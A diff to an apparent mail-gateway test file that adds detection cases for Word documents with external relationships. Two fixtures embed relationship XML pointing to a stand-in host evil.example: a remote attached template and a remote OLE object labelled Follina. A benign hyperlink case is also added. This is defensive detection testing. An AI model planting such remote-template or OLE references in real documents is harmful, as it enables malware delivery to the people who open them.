@@ -19,8 +19,8 @@ from gateway.mime import container, sniff
 from gateway.mime.decode import measure
 from gateway.mime.parse import Limits, parse
 from gateway.mime.source import Source
-from policies.filetypes import (DESKTOP_ENTRY, DOCM, DOCX, DOTM, HTA, IQY, PPTM, PPTX, SVG, SYLK, UNEXAMINED_ARCHIVE,
-                                URL_SHORTCUT, XLAM, XLSM, XLSX)
+from policies.filetypes import (DESKTOP_ENTRY, DOCM, DOCX, DOTM, HTA, IQY, OOXML_REMOTE, PPTM, PPTX, SVG, SYLK,
+                                UNEXAMINED_ARCHIVE, URL_SHORTCUT, XLAM, XLSM, XLSX)
 from tests.messages import png_bytes
 
 # --- active content in text -------------------------------------------------
@@ -143,6 +143,19 @@ ZIPS: list[tuple[str, bytes, str]] = [
     ("a DOCX with a spreadsheet folder", package("word/", extra=[("xl/workbook.xml", b"<w/>")]), "application/zip"),
     ("two applications' main parts", package("word/", extra=[("xl/workbook.xml", b"<w/>")], extra_types=(
         f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN["xl/"]}"/>')), "application/zip"),
+    ("a DOCX with a remote template", package("word/", extra=[("word/_rels/settings.xml.rels", (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'))]),
+     OOXML_REMOTE),
+    ("a DOCX with a remote OLE object (Follina)", package("word/", extra=[("word/_rels/document.xml.rels", (
+        b'<Relationships><Relationship Id="rId9" TargetMode="External" Target="http://evil.example/x.html!" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'))]),
+     OOXML_REMOTE),
+    ("a DOCX with a web link", package("word/", extra=[("word/_rels/document.xml.rels", (
+        b'<Relationships><Relationship Id="rId9" TargetMode="External" Target="https://example.com/" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'))]),
+     DOCX),
     ("content types naming no main part", package("word/", main="application/xml"), "application/zip"),
     ("a ZIP of other files", b"", "application/zip"),  # built below
 ]
